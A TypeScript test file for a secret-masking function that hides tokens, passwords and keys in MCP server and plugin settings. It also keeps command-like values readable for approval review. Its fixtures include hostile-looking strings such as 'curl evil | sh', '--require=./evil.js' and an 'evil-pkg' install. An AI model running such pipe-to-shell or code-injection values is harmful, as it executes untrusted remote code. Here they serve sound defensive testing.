import { maskSecrets } from 'pegboard/settings';
import { expect, test } from 'vitest';

const STARS = '********';

test.each([
  [
    'mcpServers.x.args',
    ['run', '-e', 'GITHUB_TOKEN=abc', '-e', 'LEVEL=1', '--api_key', 'abc', '-H', 'X-Key: abc', 'curl -H "Authorization: Bearer abc" x'],
    [
      'run',
      '-e',
      `GITHUB_TOKEN=${STARS}`,
      '-e',
      'LEVEL=1',
      '--api_key',
      STARS,
      '-H',
      `X-Key: ${STARS}`,
      `curl -H "Authorization: Bearer ${STARS}" x`,
    ],
  ],
  ['mcpServers.x.url', 'https://x/?token=${T:-abc}', `https://x/?token=\${T:-${STARS}}`],
  ['env', { TOKEN: 'abc', A: '1', FROM: '${TOKEN}' }, { TOKEN: STARS, A: STARS, FROM: '${TOKEN}' }],
  ['env.A', 'abc', STARS],
  [
    'mcpServers.x',
    { headers: { Authorization: 'Bearer abc', 'X-Key': 'Bearer ${KEY}' } },
    { headers: { Authorization: `Bearer ${STARS}`, 'X-Key': 'Bearer ${KEY}' } },
  ],
  [
    'mcpServers.x.args',
    ['run', '--token', 'abc', '--api-key=abc', '--port', '80'],
    ['run', '--token', STARS, `--api-key=${STARS}`, '--port', '80'],
  ],
  ['mcpServers.x.url', 'https://me:abc@host/path?token=abc&page=2', `https://${STARS}@host/path?token=${STARS}&page=2`],
  [
    'pluginOptions.notes',
    { apiKey: 'abc', folder: '/x', deep: { password: 'abc', retries: 3 } },
    { apiKey: STARS, folder: '/x', deep: { password: STARS, retries: 3 } },
  ],
  ['permissions.allow', ['Read', 'mcp__tokens__list'], ['Read', 'mcp__tokens__list']],
  ['mcpServers.x.url', 'https://host/${PATH}', 'https://host/${PATH}'],
  ['env.A', 'Bearer ${A:-abc}', `Bearer \${A:-${STARS}}`],
  [
    'mcpServers.x.args',
    ['-k', 'abc', '--pat', 'abc', '-p', 'abc', '-p', '8080:80', '--auth-token', 'abc', '--auth-url', 'https://a/b', '-u', 'me:abc'],
    ['-k', STARS, '--pat', STARS, '-p', STARS, '-p', '8080:80', '--auth-token', STARS, '--auth-url', 'https://a/b', '-u', `me:${STARS}`],
  ],
  ['mcpServers.x', { command: 'npx', args: ['-y', '-p', 'pkg', 'run'] }, { command: 'npx', args: ['-y', '-p', 'pkg', 'run'] }],
  ['mcpServers.x.url', 'https://h/?k=abc&page=2#token=abc', `https://h/?k=${STARS}&page=2#token=${STARS}`],
  ['mcpServers.x.headers', ['X-A: abc', 'Authorization: Basic YWJj'], [`X-A: ${STARS}`, `Authorization: Basic ${STARS}`]],
  ['mcpServers.x.headers', { A: ['abc', { b: 'abc' }] }, { A: [STARS, { b: STARS }] }],
  ['mcpServers.token', { command: 'node', args: ['a.js'] }, { command: 'node', args: ['a.js'] }],
  ['pluginOptions.github.key', 'abc', STARS],
  ['pluginOptions["a.b"].credentials', { user: 'abc', deep: ['abc'], on: true }, { user: STARS, deep: [STARS], on: true }],
  [
    'pluginOptions.x',
    { auth: { value: 'abc' }, maxTokens: 4000, keyFile: './k' },
    { auth: { value: STARS }, maxTokens: 4000, keyFile: './k' },
  ],
  ['theirs.auth.value', 'abc', STARS],
  ['mcpServers.x.args', ['ghp_0123456789abcdefABCDEF', './a'], [STARS, './a']],
  ['mcpServers.x.args', ["--data={'token': 'abc'}", 'PASSWORD="abc" run'], [`--data={'token': '${STARS}'}`, `PASSWORD="${STARS}" run`]],
  ['env', { NODE_OPTIONS: '--require=./token=abc', PATH: '/a' }, { NODE_OPTIONS: '--require=./token=abc', PATH: '/a' }],
  ['hooks', [{ command: 'curl --password abc https://h' }], [{ command: `curl --password ${STARS} https://h` }]],
])('in a record nothing secret is left: %s of %j', (key, value, shown) => {
  expect(maskSecrets(key, value)).toEqual(shown);
});

const masked = (length: number) => `${STARS}(${length} characters)`;

test.each([
  [{ env: { NODE_OPTIONS: '--require=./evil.js', A: 'x' } }, 'as it is'],
  [{ env: { BASH_ENV: 'S3cretS3cretS3cretS3cret0' } }, 'as it is'],
  [{ command: 'npx', args: ['-y', '--auth', 'evil-pkg'] }, 'as it is'],
  [{ command: 'npx', args: ['--token', 'evil1'] }, 'as it is'],
  [{ command: 'node', args: ['--key', './evil.js', '--token', '/opt/x', '--secret', '--eval=1', '--pass', 'curl evil | sh'] }, 'as it is'],
  [{ env: { TOKEN: './evil.sh', SECRET: 'curl evil|sh', API_KEY: '--require=x', AUTH: 'https://evil.example/x' } }, 'as it is'],
  [{ env: { TOKEN: '${TOKEN}', KEY: 'Bearer ${env:KEY}' }, headers: { 'X-Team': 'red' } }, 'as it is'],
  [{ env: { TOKEN: 'hunter2' } }, { env: { TOKEN: masked(7) } }],
  [{ env: { A: 'sk-ant-0123456789abcdef' } }, { env: { A: masked(23) } }],
  [{ env: { TOKEN: 'sh -c a1b2c3d4e5f6g7h8i9j0' } }, { env: { TOKEN: `sh -c ${masked(20)}` } }],
  [{ headers: { Authorization: 'Bearer abc123' } }, { headers: { Authorization: `Bearer ${masked(6)}` } }],
  [{ args: ['server', '--api-key', 'S3cret', '--password=abc1'] }, { args: ['server', '--api-key', masked(6), `--password=${masked(4)}`] }],
  [{ url: 'https://me:abc@host/?token=abc1' }, { url: `https://${masked(6)}@host/?token=${masked(4)}` }],
  [{ env: { HTTPS_PROXY: 'http://me:abc@proxy:1' } }, { env: { HTTPS_PROXY: `http://${masked(6)}@proxy:1` } }],
])(
  'statement 56 for an approval whatever could decide what runs is readable, and secrets say how long they are: %j',
  (definition, shown) => {
    expect(maskSecrets('mcpServers.x', definition, 'approval')).toEqual(shown === 'as it is' ? definition : shown);
  },
);
